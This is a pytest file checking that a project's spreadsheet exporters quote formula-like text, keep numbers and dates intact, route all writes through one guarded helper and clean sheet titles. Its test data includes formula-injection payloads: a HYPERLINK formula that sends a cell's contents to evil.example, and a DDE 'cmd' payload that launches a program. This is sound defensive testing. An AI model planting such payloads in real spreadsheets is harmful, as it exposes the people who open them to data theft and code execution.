"""Text written to a spreadsheet stays text: no value becomes a formula, in any exporter."""

from __future__ import annotations

import datetime as dt
import re
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from ketnap.core.testing import build_world
from ketnap.lib.spreadsheet import put, sheet_title
from ketnap.reports.exports import statistics_xlsx
from ketnap.reports.selectors import organization_statistics

ATTACKS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"Mở")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
           "\t=cmd|' /C calc'!A0", "\r=1", "plain text", "Chi bộ = thôn"]  # fmt: skip


def read_back(book: Workbook) -> Workbook:
    buffer = BytesIO()
    book.save(buffer)
    return load_workbook(BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("text", ATTACKS)
def test_text_is_read_back_as_the_same_text(text: str) -> None:
    book = Workbook()
    put(book.active, 1, 1, text)
    cell = read_back(book).active.cell(row=1, column=1)
    assert (cell.data_type, cell.value) == ("s", text)


def test_formula_like_text_gets_the_quote_prefix_and_numbers_stay_numbers() -> None:
    book = Workbook()
    put(book.active, 1, 1, "=1+2")
    put(book.active, 2, 1, "thôn Nà Hỳ")
    put(book.active, 3, 1, 42)
    put(book.active, 4, 1, dt.date(2024, 1, 1))
    sheet = read_back(book).active
    assert sheet["A1"].quotePrefix and not sheet["A2"].quotePrefix
    assert (sheet["A3"].data_type, sheet["A3"].value) == ("n", 42)
    assert sheet["A4"].is_date


def test_statistics_export_keeps_a_formula_like_organization_name_as_text(db: None) -> None:
    world = build_world()
    world.province_a.name = '=HYPERLINK("http://evil.example","Tỉnh A")'
    world.province_a.save()
    data = statistics_xlsx(organization_statistics(world.province_a, dt.date(2024, 1, 1)))
    cell = load_workbook(BytesIO(data)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value.startswith('=HYPERLINK("http://evil.example","Tỉnh A") — ')


# Any other way of putting a value into a cell would bypass the guard above.
# ``append`` of a worksheet (a name with "sheet" or "ws" in it), not of a list.
DIRECT_WRITE = re.compile(
    r"\.value\s*=|\.cell\([^)]*value\s*=|\b(?:sheet|ws|worksheet)\[[^\]]+\]\s*=[^=]|\b\w*(?:sheet|ws)\w*\.append\("
)
USES_OPENPYXL = re.compile(r"^\s*(?:from|import) (?:openpyxl|xlsxwriter)", re.MULTILINE)


def test_every_xlsx_writer_goes_through_put() -> None:
    package = Path(__file__).resolve().parents[2]
    offenders = []
    for path in package.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if USES_OPENPYXL.search(text) and DIRECT_WRITE.search(text):
            offenders.append(str(path.relative_to(package)))
    assert offenders == []


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("Lớp nhận thức về Đảng khóa 1/2025", "Lớp nhận thức về Đảng khóa 1-20"),
        ("Lớp [A]: hỏi? *mới* \\ cũ", "Lớp -A-- hỏi- -mới- - cũ"),
        ("'Chi bộ'", "Chi bộ"),
        ("///", "---"),
        ("''", "-"),
    ],
)
def test_a_sheet_title_is_made_acceptable_to_excel(name: str, title: str) -> None:
    book = Workbook()
    assert book.active is not None
    book.active.title = sheet_title(name)
    assert read_back(book).active.title == title
